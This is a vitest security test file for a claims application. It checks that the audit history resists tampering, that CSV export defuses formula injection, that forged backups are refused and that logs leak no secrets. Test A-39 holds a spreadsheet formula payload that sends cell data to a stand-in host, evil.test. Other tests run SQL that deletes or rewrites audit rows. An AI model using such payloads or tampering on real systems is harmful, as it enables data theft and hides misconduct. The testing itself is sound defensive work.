import { readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { sql, systemTable } from '../../server/sql/statement'
import { callerOf } from './caller'
import { changeClaim, fileClaim, moveClaim } from './claims'
import { openSite, passwordOf, type Site } from './site'

/* What somebody tries who owns the database and wants to hide what was done; and what the traces of others say. */

let site: Site
let id = 0
const history = systemTable('history')

beforeAll(async () => {
  site = await openSite()
  id = await fileClaim(site)
  await moveClaim(await site.login('abe'), id, 'approved')
  await moveClaim(await site.login('cass'), id, 'paid')
})
afterAll(() => site.close())

const checked = (...words: string[]) => site.run(['history', '--check', ...words])

/** Does something that the owner of the tables can do, has it judged, and takes it back. */
const judged = async (change: readonly ReturnType<typeof sql>[], ...words: string[]) => {
  await site.database.rows(sql`drop schema if exists "before" cascade`)
  await site.database.rows(sql`create schema "before"`)
  const kept = [
    ['claim', sql`"claim"`],
    ['history', history],
    ['account', systemTable('account')],
  ] as const
  for (const [name, table] of kept)
    await site.database.rows(sql`create table "before".${sql.id(name)} as select * from ${table}`)
  await site.database.rows(sql`alter table ${history} disable trigger user`)
  for (const each of change) await site.database.rows(each)
  const result = checked(...words)
  for (const [name, table] of kept.toReversed()) {
    await site.database.rows(sql`delete from ${table}`)
    await site.database.rows(sql`insert into ${table} select * from "before".${sql.id(name)}`)
  }
  await site.database.rows(sql`alter table ${history} enable trigger user`)
  return result
}

beforeEach(() => {
  const whole = checked('--records')
  expect([whole.code, whole.said]).toEqual([0, expect.stringContaining('each as it was written')])
})

test('A-34 lines are only added, also by who owns the table', async () => {
  for (const statement of [
    sql`update ${history} set who = 'nobody'`,
    sql`delete from ${history}`,
    sql`truncate ${history}`,
  ])
    await expect(site.database.rows(statement)).rejects.toThrow()
})

test.each([
  [
    'one line is another',
    [sql`update ${history} set who = 'abe' where id = (select max(id) from ${history})`],
  ],
  [
    'one line is gone',
    [sql`delete from ${history} where id = (select min(id) + 3 from ${history})`],
  ],
])('A-35 it is found when %s', async (_, change) => {
  expect((await judged(change)).code).toBe(1)
})

/** Has lines written while somebody else adds to the first chain. */
const besideAnother = (work: () => Promise<unknown>) =>
  site.database.transaction(async (session) => {
    await session.rows(sql`select pg_advisory_xact_lock(4206704, 0)`)
    await work()
  })

test('A-35 it is found when one chain of several, or its end, is gone', async () => {
  await besideAnother(() => fileClaim(site))
  // Whatever is written since has seen all chains.
  await fileClaim(site)
  const whole = checked()
  expect([whole.code, whole.said]).toEqual([0, expect.stringContaining('each as it was written')])
  const ends = [
    sql`delete from ${history} where chain = 1`,
    sql`delete from ${history} where chain = 1 and place = (select max(place) from ${history} where chain = 1)`,
  ]
  for (const end of ends) {
    const { code, said } = await judged([end])
    expect([code, said]).toEqual([1, expect.stringContaining('chain 1 ends with line')])
  }
})

test('A-36 it is found when the end, or all of it, is gone, by what was noted elsewhere', async () => {
  const anchor = join(site.folder, 'anchor')
  const noted = site.run(['history', '--anchor', anchor])
  expect(noted.code, noted.said).toBe(0)
  const end = sql`delete from ${history} where id > (select max(id) - 3 from ${history})`
  expect((await judged([end], '--since', anchor)).code).toBe(1)
  expect((await judged([sql`delete from ${history}`], '--since', anchor)).code).toBe(1)
})

test.each([
  [
    'a record was changed in SQL',
    [sql`update claim set amount = 88888 where id = (select max(id) from claim)`],
  ],
  ['a record was moved in SQL', [sql`update claim set status = 'approved'`]],
  ['a record was removed in SQL', [sql`delete from claim`]],
  [
    'a record was added in SQL',
    [
      sql`insert into claim select (jsonb_populate_record(c, '{"id": 900}')).* from claim c limit 1`,
    ],
  ],
  [
    'an account was given other roles',
    [sql`update ${systemTable('account')} set roles = null where username = 'cleo'`],
  ],
])('A-37 it is found when %s', async (_, change) => {
  expect((await judged(change, '--records')).code).toBe(1)
})

test('A-38 accounts, logins, refused logins, logouts and passwords leave lines', async () => {
  const caller = await site.login('cleo')
  await caller.call('/login', { username: 'cleo', password: 'a wrong one' })
  const next = 'quite another pass phrase'
  await caller.call('/password', { old: passwordOf('cleo'), password: next, password2: next })
  await caller.call('/password', {
    old: next,
    password: passwordOf('cleo'),
    password2: passwordOf('cleo'),
  })
  await caller.call('/logout')
  site.run(['accounts', '--disable', 'cleo'])
  site.run(['accounts', '--enable', 'cleo'])
  const text = JSON.stringify(
    await site.database.rows(sql`select deed, call, record, changes from ${history} order by id`),
  )
  for (const word of ['login', 'refused', 'logout', 'password', 'disable'])
    expect(text).toContain(word)
  expect(text).not.toContain(passwordOf('cleo'))
})

test('A-39 a spreadsheet with the history runs nothing', async () => {
  const evil = '=HYPERLINK("http://evil.test/?"&A1,"ok")'
  const other = await fileClaim(site, { payee: evil, remark: '@SUM(1)' })
  await changeClaim(
    await site.login('abe'),
    '/claim/edit',
    { id: other, remark: '+1+1' },
    { 'idempotency-key': evil },
  )
  const out = join(site.folder, 'history.csv')
  const written = site.run(['history', '--out', out])
  expect(written.code, written.said).toBe(0)
  const cells = readFileSync(out, 'utf8').split(/[,\n]/)
  expect(cells.filter((cell) => /^"?[=+@\t\r-][^\d]/.test(cell))).toEqual([])
})

test('A-40 a backup is its owner’s, and one that somebody has changed is not taken back', async () => {
  const { gunzipSync, gzipSync } = await import('node:zlib')
  const { createHash } = await import('node:crypto')
  const { writeFileSync } = await import('node:fs')
  const file = join(site.folder, 'backup')
  const made = site.run(['backup', '--out', file])
  expect(made.code, made.said).toBe(0)
  expect(statSync(file).mode & 0o777).toBe(0o600)
  const text = gunzipSync(readFileSync(file)).toString('utf8')
  const changes = [
    text.slice(0, text.length / 2),
    text.replace('Ada Ash', 'Eve Elm'),
    text
      .split('\n')
      .filter((_, index) => index !== 5)
      .join('\n'),
  ]
  // One whose sum was computed anew is refused as well: the sum has a key.
  const lines = (changes[1] ?? '').split('\n')
  const digest = createHash('sha256').update(lines.slice(0, -2).join('\n')).digest('hex')
  changes.push((changes[1] ?? '').replaceAll(/[0-9a-f]{64}/g, digest))
  for (const [index, changed] of changes.entries()) {
    const forged = join(site.folder, `forged-${index}`)
    writeFileSync(forged, gzipSync(changed))
    expect(site.run(['restore', '--file', forged]).code, `${index}`).not.toBe(0)
  }
  expect(checked('--records').code).toBe(0)
})

test('A-41 the log says who called, how it ended and nothing of what was in it', async () => {
  const secret = 'Zacharias Zuckermann'
  const token = `bearer-${'x'.repeat(30)}`
  const caller = await site.login('cleo')
  await caller.call(
    '/claim/create',
    { payee: secret, amount: 3 },
    { 'x-request-id': 'a\u00A0b', referer: `http://x/?${token}`, authorization: `Bearer ${token}` },
  )
  await caller.call(`/claim?name=${encodeURIComponent(secret)}`, { q: secret })
  await callerOf(site.port).call('/login', { username: 'cleo', password: 'a wrong one' })
  const log = site.server.output()
  expect(log).not.toContain(secret)
  expect(log).not.toContain('Zacharias')
  expect(log).not.toContain(token)
  expect(log).toMatch(/create/)
})

test('A-42 guesses can be seen in the metrics, persons cannot', async () => {
  await callerOf(site.port).call('/login', { username: 'cleo', password: 'a wrong one' })
  const text = await (await fetch(site.metrics)).text()
  expect(text).not.toMatch(/cleo|abe|root|Ada/)
  const [, refused = '0'] = /deskwright_refusals_total\{[^}]*login[^}]*\} (\d+)/.exec(text) ?? []
  expect(Number(refused)).toBeGreaterThan(0)
})

test('A-43 what the database is reached by is in no message and no list of processes', async () => {
  const url = 'postgres://nobody:Sup3r-secret@127.0.0.1:1/none'
  for (const words of [
    ['migrate'],
    ['accounts'],
    ['history', '--check'],
    ['backup', '--out', join(site.folder, 'b')],
  ]) {
    const said = site.run(words, { env: { DATABASE_URL: url } })
    expect(said.code).not.toBe(0)
    expect(said.said).not.toContain('Sup3r-secret')
  }
})
